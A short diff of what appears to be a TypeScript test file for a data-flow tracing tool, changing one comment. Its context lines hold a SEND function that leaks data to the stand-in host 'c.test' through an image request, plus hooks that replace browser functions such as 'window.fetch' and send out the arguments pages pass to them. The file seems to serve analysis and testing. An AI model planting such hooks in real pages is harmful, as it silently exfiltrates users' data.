@@ -4,7 +4,7 @@ import { sinksOf, traceOf } from "../testing/trace-of.ts";
 
 const SEND = 'function send(data) { new Image().src = "https://c.test/?" + data; }\n';
 
-/** Each takes the place of a function of the page or the browser, and tells what the page gives to it. */
+/** Each replaces a function of the page or the browser, and sends the arguments that the page passes. */
 const HOOKS = [
 	[
 		"window.fetch",
